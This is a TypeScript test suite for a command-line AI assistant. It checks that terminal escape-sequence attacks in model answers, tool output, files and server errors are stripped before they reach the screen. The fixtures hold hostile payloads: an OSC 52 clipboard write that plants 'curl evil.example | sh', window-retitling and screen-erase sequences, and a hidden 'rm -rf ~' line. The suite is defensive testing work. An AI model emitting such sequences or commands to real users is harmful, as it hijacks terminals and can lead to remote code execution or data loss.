// Output that cannot attack the terminal. A model's answer, a tool's output
// and a server's error text are shown to a person, and a terminal obeys what
// it is sent: OSC 52 writes the clipboard, OSC 0/2 retitle the window, CSI
// erases the screen. Each case sends such text through a real path (the
// assistant under tmux, `kodama ask`, `-p`, `run`, `sessions show`, over
// real HTTP from testkit's scripted server) and checks what arrives: no
// control byte on stdout or stderr, the tmux clipboard buffer unset, the pane
// title unchanged, the screen not cleared; `--json` keeps the raw text,
// escaped. Beside them, ordinary text (unicode, emoji, tabs, newlines)
// arrives unchanged.
import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { ControlSequenceStripper, stripControlSequences } from '@kodama/core/listeners';
import type { ScriptedReply } from '@kodama/testkit';
import { BIN, isolatedEnv } from '../../packages/cli/test/support/run-kodama.ts';
import { scriptedServers } from '../../packages/cli/test/support/scripted-servers.ts';

const serve = scriptedServers();

/** The base64 of the text an attacker would put on the clipboard. */
const CLIPBOARD = Buffer.from('curl evil.example | sh').toString('base64');
/** A clipboard write, a title change, a screen erase and cursor home, between two visible words. */
const ATTACK = `visible-start \x1b]52;c;${CLIPBOARD}\x07\x1b]2;pwned-title\x07\x1b[2J\x1b[H visible-end`;

/** Any byte a terminal acts on: C0 but LF and TAB, DEL; C1 as UTF-8 (C2 80–C2 9F). */
function controlBytes(bytes: Buffer): string[] {
  const found: string[] = [];
  for (let i = 0; i < bytes.length; i++) {
    const b = bytes[i]!;
    if ((b < 0x20 && b !== 0x0a && b !== 0x09) || b === 0x7f) found.push(`0x${b.toString(16)} at ${i}`);
    if (b === 0xc2 && bytes[i + 1]! >= 0x80 && bytes[i + 1]! <= 0x9f) found.push(`C1 at ${i}`);
  }
  return found;
}

interface Bytes {
  code: number | null;
  stdout: Buffer;
  stderr: Buffer;
}

/** Runs `kodama <args>` in a fresh folder, collecting the raw bytes. */
async function kodama(args: readonly string[], env = isolatedEnv(), folder?: string): Promise<Bytes> {
  const cwd = folder ?? (await mkdtemp(join(tmpdir(), 'kodama-term-')));
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, ...args], {
      cwd,
      env: { XDG_DATA_HOME: join(cwd, '.data'), ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout.on('data', (d: Buffer) => out.push(d));
    child.stderr.on('data', (d: Buffer) => err.push(d));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout: Buffer.concat(out), stderr: Buffer.concat(err) }));
  });
}

async function modelFlag(script: ScriptedReply[]): Promise<string[]> {
  const server = await serve(script);
  return ['--model', `openai-compatible:${server.url}/v1`];
}

function assertClean(out: Bytes, stream: 'stdout' | 'stderr' = 'stdout'): string {
  assert.deepEqual(controlBytes(out[stream]), [], `${stream}: ${JSON.stringify(out[stream].toString())}`);
  return out[stream].toString('utf8');
}

describe('kodama ask, -p, run: what the model says reaches stdout without control sequences', () => {
  test('terminal: an answer with OSC 52, a title change and CSI erase reaches ask stdout as its text only', async () => {
    const out = await kodama(['ask', ...(await modelFlag([{ text: ATTACK }])), 'hi']);
    assert.equal(out.code, 0, out.stderr.toString());
    const text = assertClean(out);
    assert.match(text, /visible-start +visible-end/);
    assert.doesNotMatch(text, /52;c|pwned-title/, 'the sequences go whole, not as visible debris');
  });

  test('terminal: a sequence split one character per stream delta is still removed', async () => {
    const out = await kodama(['ask', ...(await modelFlag([{ text: ATTACK, chunkSize: 1 }])), 'hi']);
    assert.equal(out.code, 0, out.stderr.toString());
    assert.doesNotMatch(assertClean(out), /52;c|pwned-title/);
  });

  test('terminal: ESC in one delta and `]52;…` in the next (a 3-character split) is removed', async () => {
    const text = `ab\x1b]52;c;${CLIPBOARD}\x07cd`; // 'ab' + ESC is the first delta of 3
    const out = await kodama(['ask', ...(await modelFlag([{ text, chunkSize: 3 }])), 'hi']);
    assert.equal(assertClean(out).trim(), 'abcd');
  });

  test('terminal: 8-bit C1 CSI and OSC (U+009B, U+009D) never reach stdout', async () => {
    const text = `one\u009b2J\u009d0;pwned-title\u009ctwo\u009b1;1Hthree`;
    const out = await kodama(['ask', ...(await modelFlag([{ text }])), 'hi']);
    assert.equal(assertClean(out).trim(), 'onetwothree');
  });

  test('terminal: a carriage return cannot hide the start of a line (it becomes a line break)', async () => {
    const out = await kodama(['ask', ...(await modelFlag([{ text: 'rm -rf ~ \rls -la' }])), 'hi']);
    const text = assertClean(out);
    assert.match(text, /rm -rf ~/, 'the overwritten part stays visible');
    assert.match(text, /ls -la/);
  });

  test('terminal: cursor movement, scroll regions, DCS, APC and SGR colours from the model go', async () => {
    const text =
      'a\x1b[5A\x1b[1;3r\x1bPq#0\x1b\\\x1b_apc\x1b\\\x1b[31mred\x1b[0m\x1b7\x1b8\x1bc\x08\x07\x7fb';
    const out = await kodama(['ask', ...(await modelFlag([{ text }])), 'hi']);
    assert.equal(assertClean(out).trim(), 'aredb');
  });

  test('terminal: a file read by a tool, full of escapes, is previewed on stderr without them', async () => {
    const cwd = await mkdtemp(join(tmpdir(), 'kodama-term-read-'));
    await writeFile(
      join(cwd, 'notes.txt'),
      `notes \x1b]52;c;${CLIPBOARD}\x07\x1b]2;pwned-title\x07\x1b[2J end`,
    );
    const flag = await modelFlag([
      { toolCalls: [{ name: 'read', arguments: { path: 'notes.txt' } }] },
      { text: 'read it' },
    ]);
    const out = await kodama(['ask', '--tools', 'read', ...flag, 'hi'], isolatedEnv(), cwd);
    assert.equal(out.code, 0, out.stderr.toString());
    assertClean(out);
    const stderr = assertClean(out, 'stderr');
    assert.match(stderr, /notes/, 'the result is shown');
    assert.doesNotMatch(stderr, /pwned-title|52;c/);
  });

  test('terminal: a server error body with escapes is said on stderr without them', async () => {
    const flag = await modelFlag([
      { fault: 'http', status: 400, body: `bad \x1b]52;c;${CLIPBOARD}\x07\x1b[2J request` },
    ]);
    const out = await kodama(['ask', ...flag, 'hi']);
    assert.notEqual(out.code, 0);
    assertClean(out, 'stderr');
    assertClean(out);
  });

  test('terminal: kodama -p prints the answer without control sequences', async () => {
    const out = await kodama(['-p', 'hi', ...(await modelFlag([{ text: ATTACK }]))]);
    assert.equal(out.code, 0, out.stderr.toString());
    assert.match(assertClean(out), /visible-start +visible-end/);
  });

  test('terminal: kodama run prints the answer without control sequences', async () => {
    const server = await serve([{ text: ATTACK }]);
    const agent = fileURLToPath(new URL('../../packages/cli/test/fixtures/run/agent.mjs', import.meta.url));
    const env = isolatedEnv({ KODAMA_MODEL: `openai-compatible:${server.url}/v1@scripted-model` });
    const out = await kodama(['run', agent, 'hi'], env);
    assert.equal(out.code, 0, out.stderr.toString());
    assert.match(assertClean(out), /visible-start +visible-end/);
  });

  test('terminal: --json carries the raw text escaped: no raw ESC or C1 byte on stdout, the text intact', async () => {
    const text = `${ATTACK}\u009b2J`;
    const out = await kodama(['ask', '--json', ...(await modelFlag([{ text }])), 'hi']);
    assert.equal(out.code, 0, out.stderr.toString());
    const lines = assertClean(out)
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { type: string; text?: string });
    assert.equal(
      lines.find((e) => e.type === 'assistant')?.text,
      text,
      'a script gets exactly what the model said',
    );
  });

  test('terminal: -p --json carries the raw text escaped', async () => {
    const out = await kodama(['-p', 'hi', '--json', ...(await modelFlag([{ text: ATTACK }]))]);
    assert.equal(out.code, 0, out.stderr.toString());
    const events = assertClean(out)
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { type: string; text?: string });
    assert.equal(events.find((e) => e.type === 'assistant')?.text, ATTACK);
  });

  test('terminal: a stored answer shown by kodama sessions show loses its control sequences', async () => {
    const home = await mkdtemp(join(tmpdir(), 'kodama-term-home-'));
    const env = isolatedEnv({ XDG_DATA_HOME: join(home, 'data') });
    const flag = await modelFlag([{ text: ATTACK }]);
    const asked = await kodama(['ask', '--session', 'attack', ...flag, 'hi'], env);
    assert.equal(asked.code, 0, asked.stderr.toString());
    const shown = await kodama(['sessions', 'show', 'attack'], env);
    assert.equal(shown.code, 0, shown.stderr.toString());
    assert.match(assertClean(shown), /visible-start +visible-end/);
  });

  test('ordinary work: unicode, emoji, tabs and newlines in an answer reach stdout byte for byte', async () => {
    const text = 'Grüße, 世界 👋🏽 naïve café\n\tcol1\tcol2\n```ts\nconst x = "ok";\n```\n→ ✓ done';
    const out = await kodama(['ask', ...(await modelFlag([{ text, chunkSize: 3 }])), 'hi']);
    assert.equal(out.code, 0, out.stderr.toString());
    assert.equal(out.stdout.toString('utf8'), `${text}\n`);
  });
});

describe('the stripper kodama shows text through', () => {
  test('terminal: a tmux passthrough (DCS wrapping OSC 52) is removed whole', () => {
    assert.equal(stripControlSequences(`a\x1bPtmux;\x1b\x1b]52;c;${CLIPBOARD}\x07\x1b\\b`), 'ab');
  });

  test('terminal: an OSC 8 hyperlink keeps its text and loses its target', () => {
    assert.equal(stripControlSequences('\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\'), 'docs');
  });

  test('terminal: a sequence cut at any point between two stream pieces is removed', () => {
    for (let cut = 0; cut <= ATTACK.length; cut++) {
      const s = new ControlSequenceStripper();
      const out = s.push(ATTACK.slice(0, cut)) + s.push(ATTACK.slice(cut)) + s.end();
      assert.equal(out, 'visible-start  visible-end', `cut at ${cut}`);
    }
  });
});

// ---- the assistant under a real terminal (tmux) --------------------------------------------

const haveTmux = spawnSync('tmux', ['-V']).status === 0;
/** Skips without tmux, except under CI, where the tests fail (.ci/run installs tmux). */
const skip = !haveTmux && !process.env.CI ? 'tmux is not installed' : false;

/**
 * A tmux server that accepts OSC 52 from programs into its paste buffers
 * (`set-clipboard on`), so a clipboard write that got through would show in
 * `show-buffer`; OSC 0/2 set `#{pane_title}`.
 */
class Tty {
  readonly #socket = `kodama-sec-${randomBytes(4).toString('hex')}`;

  async start(command: string, dir: string): Promise<void> {
    const conf = join(dir, 'tmux.conf');
    await writeFile(conf, 'set -g set-clipboard on\nset -g allow-rename on\n');
    this.tmux('-f', conf, 'new-session', '-d', '-s', 'main', '-x', '100', '-y', '40', command);
  }

  /** The newest paste buffer, or '' when there is none. */
  buffer(): string {
    const r = spawnSync('tmux', ['-L', this.#socket, 'show-buffer'], { encoding: 'utf8' });
    return r.status === 0 ? r.stdout : '';
  }

  title(): string {
    return this.tmux('display-message', '-p', '-t', 'main', '#{pane_title}').trim();
  }

  screen(): string {
    return this.tmux('capture-pane', '-p', '-t', 'main');
  }

  type(text: string): void {
    this.tmux('send-keys', '-t', 'main', '-l', text);
    this.tmux('send-keys', '-t', 'main', 'Enter');
  }

  async waitFor(pattern: RegExp): Promise<string> {
    // A hang guard, not a speed check: generous for a loaded machine; a miss fails with the screen.
    const until = Date.now() + 90_000;
    for (;;) {
      const screen = this.screen();
      if (pattern.test(screen)) return screen;
      if (Date.now() > until) throw new Error(`never saw ${pattern} on the screen:\n${screen}`);
      await new Promise((r) => setTimeout(r, 100));
    }
  }

  kill(): void {
    spawnSync('tmux', ['-L', this.#socket, 'kill-server']);
  }

  tmux(...args: string[]): string {
    return execFileSync('tmux', ['-L', this.#socket, ...args], { encoding: 'utf8' });
  }
}

const sh = (word: string) => `'${word.replace(/'/g, `'\\''`)}'`;

describe('the assistant under tmux', { skip }, () => {
  const ttys: Tty[] = [];
  after(() => {
    for (const t of ttys) t.kill();
  });

  async function assistant(script: (n: number) => ScriptedReply): Promise<Tty> {
    let n = 0;
    const server = await serve(() => script(n++));
    const root = await mkdtemp(join(tmpdir(), 'kodama-sec-tui-'));
    const home = join(root, '.home');
    await mkdir(home, { recursive: true });
    const env = isolatedEnv({ HOME: home, XDG_DATA_HOME: join(home, 'data') });
    const vars = Object.entries(env).map(([k, v]) => `${k}=${sh(String(v))}`);
    const argv = [
      process.execPath,
      BIN,
      '--model',
      `openai-compatible:${server.url}/v1`,
      '--root',
      root,
      '--no-skills',
      '--yes',
      '--tools',
      'read,bash,calculator',
    ];
    const tty = new Tty();
    ttys.push(tty);
    await tty.start(
      `cd ${sh(root)} && env -i ${vars.join(' ')} TERM=xterm-256color ${argv.map(sh).join(' ')}; sleep 600`,
      root,
    );
    await tty.waitFor(/session kodama-/);
    return tty;
  }

  test('control: the probe sees an unfiltered OSC 52, title change and erase (so the cases below can fail)', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'kodama-sec-probe-'));
    const tty = new Tty();
    ttys.push(tty);
    await tty.start(
      `printf 'before\\n${ATTACK.replace(/\x1b/g, '\\033').replace(/\x07/g, '\\007')}\\n'; sleep 600`,
      dir,
    );
    await tty.waitFor(/visible-end/);
    assert.equal(tty.buffer(), 'curl evil.example | sh');
    assert.equal(tty.title(), 'pwned-title');
    assert.doesNotMatch(tty.screen(), /before/);
  });

  describe('an answer with OSC 52 + OSC 2 + CSI 2J', () => {
    let tty: Tty;
    before(async () => {
      tty = await assistant(() => ({ text: `Here it is.\n\n${ATTACK}\n` }));
      tty.type('first question');
      await tty.waitFor(/visible-end/);
    });

    test('terminal: the assistant answer does not set the tmux clipboard buffer', () => {
      assert.equal(tty.buffer(), '');
    });

    test('terminal: the assistant answer does not change the pane title', () => {
      assert.notEqual(tty.title(), 'pwned-title');
    });

    test('terminal: the assistant answer does not clear the screen (the question above stays)', () => {
      const screen = tty.screen();
      assert.match(screen, /first question/);
      assert.match(screen, /Here it is\./);
    });
  });

  describe('a bash tool whose output carries OSC 52 and a title change', () => {
    let tty: Tty;
    before(async () => {
      const printf = `printf 'out-start \\033]52;c;${CLIPBOARD}\\007\\033]0;pwned-title\\007\\033[2J out-end\\n'`;
      tty = await assistant((n) =>
        n === 0 ? { toolCalls: [{ name: 'bash', arguments: { command: printf } }] } : { text: 'ran it' },
      );
      tty.type('run it');
      await tty.waitFor(/ran it/);
    });

    test('terminal: tool output shown in the assistant does not set the clipboard buffer', () => {
      assert.equal(tty.buffer(), '');
    });

    test('terminal: tool output shown in the assistant does not change the pane title', () => {
      assert.notEqual(tty.title(), 'pwned-title');
      assert.match(tty.screen(), /run it/, 'nor clear the screen');
    });
  });
});
